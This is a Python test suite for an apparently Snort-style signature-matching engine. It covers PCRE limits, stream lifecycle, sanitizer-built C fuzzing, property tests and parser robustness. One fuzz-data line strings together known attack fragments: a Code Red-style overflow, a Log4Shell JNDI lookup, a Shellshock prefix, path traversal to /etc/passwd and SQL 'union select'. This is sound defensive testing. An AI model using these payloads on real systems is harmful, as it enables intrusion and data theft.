    p = 'alert tcp any any -> any any (content:"x"; pcre:"/^(a|aa)+$/R"; sid:2;)'
    pdb = SignatureDB(ruleset(p).rules, "packet")
    (m,) = pdb.scan(b"x" + b"a" * 5000 + b"b")
    assert m.limit and pdb.stats()["pcre_errors"] == 1
    s = SignatureDB(ruleset(p).rules, "stream").open_stream()
    got = s.scan(b"x" + b"a" * 5000 + b"b") + s.close()
    assert [(g.rule.sid, g.limit) for g in got] == [(2, True)]


def test_closing_a_database_closes_its_streams():
    db = SignatureDB(ruleset('alert tcp any any -> any any (content:"abc"; sid:1;)').rules, "stream")
    s = db.open_stream()
    s.scan(b"ab")
    db.close()
    with pytest.raises(ValueError):
        s.scan(b"c")
    with pytest.raises(ValueError):
        db.open_stream()


def test_matcher_under_address_and_undefined_behaviour_sanitizers(tmp_path):
    """csrc/sig.c built with -fsanitize=address,undefined, driven by tests/c/sig_fuzz.c over
    the example rules (valid and randomly mutated blobs, blocks and streams of many chunkings):
    any out-of-bounds access, leak or undefined behaviour aborts it."""
    import subprocess
    with open(WEB_RULES) as f:
        rs = parse_rules(f.read() + "\n" + open(SV_RULES).read(), V, "w")
    blob = tmp_path / "rules.blob"
    blob.write_bytes(R.encode([r for r in rs.rules if r.mode == "stream"]))
    pblob = tmp_path / "packet.blob"
    pblob.write_bytes(R.encode(rs.rules))
    data = tmp_path / "data"
    data.write_bytes(b"GET /default.ida?" + b"N" * 300 + b"%u9090 ${jndi:ldap://x} () { :; }; "
                     b"../etc/passwd union select \x90" * 3 + b"boundary=abcdefgh\r\n--abcdefgh--abcdefgh"
                     + bytes(range(256)) * 8)
    exe = tmp_path / "sig_fuzz"
    cc = ["gcc", "-O1", "-g", "-std=gnu11", "-Wall", "-Wextra", "-Werror", "-fsanitize=address,undefined",
          "-fno-sanitize-recover=all", "-I", os.path.join(ROOT, "csrc"), os.path.join(ROOT, "csrc", "sig.c"),
          os.path.join(HERE, "c", "sig_fuzz.c"), "-o", str(exe), "-lhs", "-lpcre2-8"]
    subprocess.run(cc, check=True)
    env = dict(os.environ, ASAN_OPTIONS="detect_leaks=1:abort_on_error=1",
               UBSAN_OPTIONS="print_stacktrace=1:halt_on_error=1")
    for b, rounds in ((blob, 300), (pblob, 300)):
        p = subprocess.run([str(exe), str(b), str(data), "7", str(rounds)], env=env, capture_output=True,
                           text=True, timeout=600)
        assert p.returncode == 0, p.stderr[-3000:]
        assert int(p.stdout.split()[1]) > 0


def test_chopped_fast_pattern_of_a_chained_rule():
    """fast_pattern:offset,length puts only part of item 0 into Hyperscan: its hit ends before
    the content does, and the confirmation must still see the whole content."""
    t = 'alert tcp any any -> any any (content:"abcdef"; fast_pattern:1,2; content:"X"; distance:0; sid:1;)'
    data = b"..abcdef..X.."
    assert both(t, data) == {1}
    assert both(t, b"..abcdeX..") == set()


@st.composite
def _chained_case(draw):
    """A chained rule (item 0, maybe with a chopped fast pattern, then relative items) and data
    that carries its words, so that matches and near misses are common."""
    words = [draw(st.binary(min_size=2, max_size=5).map(lambda b: bytes(ALPHA[c % 4] for c in b)))
             for _ in range(draw(st.integers(2, 3)))]
    parts = [f'content:"{words[0].decode()}";']
    if draw(st.booleans()):
        off = draw(st.integers(0, len(words[0]) - 1))
        parts.append(f"fast_pattern:{off},{draw(st.integers(1, len(words[0]) - off))};")
    for w in words[1:]:
        parts.append(f'content:{"!" if draw(st.integers(0, 4)) == 0 else ""}"{w.decode()}"; '
                     f"distance:{draw(st.integers(0, 3))};")
        if draw(st.booleans()):
            parts.append(f"within:{draw(st.integers(len(w), len(w) + 4))};")
    if draw(st.booleans()):
        parts.append(f"isdataat:{draw(st.integers(0, 3))},relative;")
    pieces = draw(st.lists(st.one_of(st.sampled_from(words), st.binary(max_size=3).map(
        lambda b: bytes(ALPHA[c % 4] for c in b))), max_size=12))
    return " ".join(parts), b"".join(pieces)


@settings(max_examples=400, deadline=None)
@given(case=_chained_case(), cuts=st.lists(st.integers(1, 4), max_size=60))
def test_chained_rules_stream_equals_block(case, cuts):
    opts, data = case
    rs = parse_rules(f"alert tcp any any -> any any ({opts} sid:1;)", V, "c.rules")
    if rs.problems or rs.rules[0].mode != "stream":
        return
    with SignatureDB(rs.rules, "packet") as b:
        want = {m.rule.sid for m in b.scan(data)}
    chunks, left = [], len(data)
    for c in cuts:
        if left <= 0:
            break
        chunks.append(min(c, left))
        left -= c
    if left > 0:
        chunks.append(left)
    with SignatureDB(rs.rules, "stream") as s:
        assert _feed(s, data, chunks) == want


_RULE_CHARS = st.sampled_from(list('alertcpudiny$HOME_NET0123456789.:/,![]-><();"|\\ #\n\tkonsmgd=') +
                              ['content', 'pcre', 'sid', 'msg', 'nocase', 'depth', 'within', 'flow',
                               'isdataat', 'dsize', 'fast_pattern', '"/a(b)\\1/R"', '|0d 0a|'])


@settings(max_examples=500, deadline=None)
@given(chunks=st.lists(_RULE_CHARS, max_size=80), prefix=st.sampled_from(
    ["", "alert tcp any any -> any any (", "drop udp $HOME_NET any <> [1.2.3.4,!5.6.7.8] 53 ("]))
def test_hostile_rule_text_never_crashes_the_parser(chunks, prefix):
    """Whatever a rule file holds: problems with a line number, never an exception; and what is
    accepted compiles (or is reported) in C."""
    text = prefix + "".join(chunks)
    rs = parse_rules(text, V, "f.rules")
    assert all(p.line >= 1 for p in rs.problems)
    for (mode, _, _), group in rs.groups().items():
        with SignatureDB(group, mode) as db:
            if mode == "stream":
                s = db.open_stream()
                s.scan(text.encode(errors="replace"))
                s.close()
            else:
                db.scan(text.encode(errors="replace"))


def test_an_unterminated_option_is_refused_in_linear_time():
    """A backtracking regex once took exponential time on an option without its ';' (found by
    the hostile-text property test): a rule file must not be able to hang a policy load."""
    import time
    for body in ('content:"' + "a" * 60000, "msg:" + "\\;" * 30000 + "x", ";" * 30000 + "x" * 30000):
        t = time.monotonic()
        with pytest.raises(RuleError):
            parse_rule(f"alert tcp any any -> any any ({body})", V)
        assert time.monotonic() - t < 2
